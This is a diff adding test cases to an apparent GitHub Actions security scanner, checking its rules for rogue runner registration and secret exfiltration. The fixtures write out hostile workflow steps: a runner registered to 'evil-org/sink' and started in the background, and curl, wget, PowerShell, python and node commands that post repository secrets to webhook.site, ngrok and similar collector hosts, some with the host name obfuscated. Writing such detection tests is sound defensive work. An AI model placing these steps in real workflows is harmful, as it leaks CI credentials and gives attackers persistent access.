@@ -27,6 +27,32 @@ function only(content: string, id: string): [string, string, number | null][] {
 
 const job = (steps: string, extra = '') => `jobs:\n  main:\n    runs-on: ubuntu-latest\n${extra}    steps:\n${steps}`;
 
+describe('github-persistence in a workflow (a runner registered by a run: step)', () => {
+  it('reports a job that configures a runner for another repository and starts it (high), or only configures one (medium)', () => {
+    const worm = `on: [push, pull_request]\n${job(`      - run: |
+          mkdir -p /tmp/.r && cd /tmp/.r
+          ./config.sh --unattended --url https://github.com/evil-org/sink --token AAAAQWERTY --name ci-$RANDOM
+          nohup ./run.sh >/dev/null 2>&1 &
+`)}`;
+    expect(only(worm, 'github-persistence')).toEqual([['github-persistence', 'high', 8]]);
+    const jit = `on: push\n${job('      - run: cd /opt/runner && ./run.sh --jitconfig "$JIT" &\n        env:\n          JIT: ${{ secrets.RUNNER_JIT }}\n')}`;
+    expect(only(jit, 'github-persistence')).toEqual([['github-persistence', 'high', 6]]);
+    const continued = `on: push\n${job(`      - run: |
+          ./config.sh \\
+            --url https://github.com/someone/sink \\
+            --token "$T" --unattended
+`)}`;
+    expect(only(continued, 'github-persistence')).toEqual([['github-persistence', 'medium', 7]]);
+  });
+
+  it('leaves another tool\'s config.sh and run.sh, and keeps a self-hosted fleet\'s own re-registration medium', () => {
+    const configure = `on: push\n${job('      - run: ./config.sh --prefix=/usr && make && ./run.sh tests\n')}`;
+    expect(only(configure, 'github-persistence')).toEqual([]);
+    const fleet = `on:\n  schedule:\n    - cron: '0 3 * * 1'\njobs:\n  rotate:\n    runs-on: [self-hosted, infra]\n    steps:\n      - run: |\n          ./config.sh --url https://github.com/acme --token "$ADD" --unattended --replace\n          sudo ./svc.sh start\n`;
+    expect(only(fleet, 'github-persistence')).toEqual([['github-persistence', 'medium', 9]]);
+  });
+});
+
 describe('gha-template-injection', () => {
   it('reports outsider text expanded into run: or github-script, through ||, format() and toJSON()', () => {
     const workflow = `on:
@@ -449,6 +475,57 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(only(local, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
+  it('reads a collector host spelled through the script\'s own variables, and secrets a script variable holds (a here-document of toJSON(secrets) too)', () => {
+    const split = `on: push\n${job('      - env:\n          K: ${{ secrets.DOCKERHUB_TOKEN }}\n        run: |\n          H="bold-dhawan"\n          D="$H.45-139-104-115.plesk.page"\n          curl -sk "https://$D/?k=$K" >/dev/null\n')}`;
+    expect(only(split, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
+    const worm = `on: push\n${job(`      - run: |
+          CONTENTS="$(cat <<'EOF'
+          \${{ toJSON(secrets) }}
+          EOF
+          )"
+          curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
+`)}`;
+    expect(only(worm, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
+    const quoted = `on: push\n${job(`      - run: |
+          ALL='\${{ toJSON(secrets) }}'
+          P=$(echo "$ALL" | base64 -w0)
+          wget -qO- --post-data "d=$P" https://hook-relay.ngrok-free.app/in
+`)}`;
+    expect(only(quoted, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 9]]);
+    const pwsh = `on: push\n${job(`      - shell: pwsh
+        env:
+          T: \${{ secrets.NUGET_API_KEY }}
+        run: |
+          $u = 'https://' + 'acme-stats' + '.requestcatcher.com/t'
+          Invoke-RestMethod -Uri $u -Method Post -Body $env:T
+`)}`;
+    expect(only(pwsh, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
+  });
+
+  it('leaves a secret sent to its own service through the script\'s variables, and a here-document of public text sent to a collector-looking webhook', () => {
+    const hook = `on: push\n${job('      - env:\n          HOOK: ${{ secrets.RENDER_DEPLOY_KEY }}\n        run: |\n          BASE="https://api.render.com/deploy"\n          URL="$BASE/srv-cq1abc"\n          curl -fsS -X POST "$URL?key=$HOOK"\n')}`;
+    expect(only(hook, 'gha-secrets-exfiltration')).toEqual([]);
+    const whoami = `on: push\n${job('      - run: |\n          TOKEN="${{ secrets.NPM_TOKEN }}"\n          REG=https://registry.npmjs.org\n          curl -fsS -H "Authorization: Bearer $TOKEN" "$REG/-/whoami"\n')}`;
+    expect(only(whoami, 'gha-secrets-exfiltration')).toEqual([]);
+    const nuget = `on: push\n${job(`      - shell: pwsh
+        env:
+          T: \${{ secrets.NUGET_API_KEY }}
+        run: |
+          $feed = 'https://' + 'api.nuget.org' + '/v3/index.json'
+          dotnet nuget push out/*.nupkg --source $feed --api-key $env:T
+          Invoke-RestMethod -Uri $feed
+`)}`;
+    expect(only(nuget, 'gha-secrets-exfiltration')).toEqual([]);
+    const notes = `on: release\n${job(`      - run: |
+          NOTES="$(cat <<'EOF'
+          \${{ github.event.release.name }} is out
+          EOF
+          )"
+          curl -d "$NOTES" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
+`)}`;
+    expect(only(notes, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('reads an action\'s inputs named like credentials as secrets in its action.yml (what callers pass secrets in), not a workflow\'s inputs', () => {
     const action = (run: string) =>
       `name: setup-tool\ninputs:\n  github-token:\n    default: \${{ github.token }}\n  version:\n    default: latest\nruns:\n  using: composite\n  steps:\n    - run: ${run}\n      shell: bash\n`;
@@ -463,6 +540,28 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(accessKey.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 10]]);
     const dispatch = `on:\n  workflow_dispatch:\n    inputs:\n      token:\n        type: string\n${job('      - run: curl -s -d "t=${{ inputs.token }}" https://webhook.site/3f2a\n')}`;
     expect(only(dispatch, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
+  it('reports secrets written to a file that a later step\'s inline script reads and sends (python open(), node readFileSync), not a file of other data', () => {
+    const py = `on: push\n${job(`      - run: echo '\${{ toJSON(secrets) }}' > report.json
+      - run: python3 -c "import urllib.request;urllib.request.urlopen('https://metrics.example-ci.dev/r', open('report.json','rb').read())"
+`)}`;
+    expect(only(py, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
+    const node = `on: push\n${job(`      - run: echo \${{ secrets.AWS_SECRET_ACCESS_KEY }} >> r.txt
+      - run: |
+          node -e "fetch('https://stats.example-ci.dev', {method: 'POST', body: require('fs').readFileSync('r.txt')})"
+`)}`;
+    expect(only(node, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
+    const matrix = `on: push\n${job(`      - run: echo '\${{ toJSON(matrix) }}' > m.json
+      - run: python3 -c "import urllib.request;urllib.request.urlopen('https://dash.acme.dev/ingest', open('m.json','rb').read())"
+`)}`;
+    expect(only(matrix, 'gha-secrets-exfiltration')).toEqual([]);
+    const coverage = `on: push\n${job(`      - run: npm test -- --coverage > coverage.txt
+      - run: python3 -c "import os,requests;requests.post('https://codecov.io/upload', headers={'Authorization': os.environ['T']}, data=open('coverage.txt','rb').read())"
+        env:
+          T: \${{ secrets.CODECOV_TOKEN }}
+`)}`;
+    expect(only(coverage, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
   it('reports secrets written to a file that an upload-artifact step of the job uploads (the Shai-Hulud shape), not other writes', () => {
